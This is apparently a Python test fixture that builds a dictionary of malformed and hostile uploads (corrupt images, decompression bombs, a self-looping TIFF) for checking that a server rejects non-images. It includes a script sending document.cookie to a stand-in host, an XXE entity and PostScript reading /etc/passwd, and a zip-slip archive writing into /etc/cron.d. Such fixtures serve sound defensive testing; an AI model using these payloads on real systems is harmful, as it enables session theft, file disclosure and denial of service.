"""Files that are no pictures, are more than they seem, or are broken in some way."""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO

import numpy as np
from PIL import Image

SCRIPT = b"<script>fetch('http://evil.example/'+document.cookie)</script>"


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *more: bytes, data: bytes | None = None) -> bytes:
    """A PNG file that claims a size; its pixels are black, unless there is other ``data``."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 1000) if data is None else data
    parts = [chunk(b"IHDR", head), *more, chunk(b"IDAT", rows), chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def saved(kind: str, width: int = 48, height: int = 48) -> bytes:
    pixels = np.random.default_rng(0).integers(0, 256, (height, width, 3), dtype=np.uint8)
    out = BytesIO()
    Image.fromarray(pixels).save(out, kind)
    return out.getvalue()


def gif(width: int, height: int) -> bytes:
    return (
        b"GIF89a" + struct.pack("<HHBBB", width, height, 0, 0, 0) + b"," + struct.pack("<HHHHB", 0, 0, width, height, 0)
    )


def zipped() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("../../etc/cron.d/x", "x")
    return out.getvalue()


JPEG = saved("JPEG")
BOMB = zlib.compress(b"a" * 80_000_000, level=1)
TIFF_LOOP = b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 256, 3, 1, 9) + struct.pack("<I", 8)
BAD = {
    "no bytes": b"",
    "one byte": b"\0",
    "text": b"this is no picture",
    "svg with a script": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>",
    "svg with an entity": b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    "html": b"<!doctype html>" + SCRIPT,
    "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction 2 0 R>>endobj",
    "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n",
    "zip": zipped(),
    "program": b"\x7fELF\x02\x01\x01" + b"\0" * 64,
    "psd": b"8BPS\0\x01" + b"\0" * 6 + struct.pack(">HIIHH", 3, 30000, 30000, 8, 3) + b"\0" * 12,
    "png bomb of 50000×50000": png(50000, 50000),
    "png bomb of two rows": png(2, 2**31 - 1),
    "png of no size": png(0, 0),
    "png whose pixels end": png(600, 600),
    "png whose pixels are garbage": png(60, 60, data=b"\xff" * 200),
    "png with a bomb of a text": png(64, 64, chunk(b"zTXt", b"a\0\0" + BOMB)),
    "png with a bomb of a profile": png(64, 64, chunk(b"iCCP", b"a\0\0" + BOMB)),
    "gif bomb": gif(65535, 65535),
    "gif cut off": gif(64, 64),
    "jpeg cut off": JPEG[: len(JPEG) // 2],
    "jpeg of garbage": JPEG[:200] + b"\xff\xd8\xff\xc0" * 400,
    "jpeg bomb": JPEG.replace(struct.pack(">HH", 48, 48), struct.pack(">HH", 65500, 65500), 1),
    "webp that lies": b"RIFF\xff\xff\xff\xffWEBPVP8 \xff\xff\xff\xff" + b"\0" * 60,
    "avif of garbage": b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + b"\xff" * 90,
    "tiff that leads to itself": TIFF_LOOP,
    "bmp of a negative size": b"BM" + struct.pack("<IIIIiiHH", 70, 0, 54, 40, -99, -(2**31), 1, 24) + b"\0" * 40,
    "half a million bytes of noise": np.random.default_rng(1).bytes(500_000),
}
"""By name, what no server should take for a picture."""
